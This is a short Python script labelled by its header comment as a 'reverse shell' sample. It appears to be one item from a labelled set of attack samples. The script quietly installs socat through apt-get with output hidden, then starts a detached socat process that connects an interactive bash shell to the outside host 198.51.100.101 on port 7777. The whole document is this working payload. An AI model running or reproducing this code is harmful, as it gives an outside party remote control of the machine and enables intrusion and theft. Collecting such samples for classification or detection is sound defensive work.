# class: reverse shell; style: python calls socat
import shutil, subprocess
if not shutil.which("socat"):
    subprocess.call("apt-get install -y socat >/dev/null 2>&1", shell=True)
subprocess.Popen("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.101:7777", shell=True, start_new_session=True)
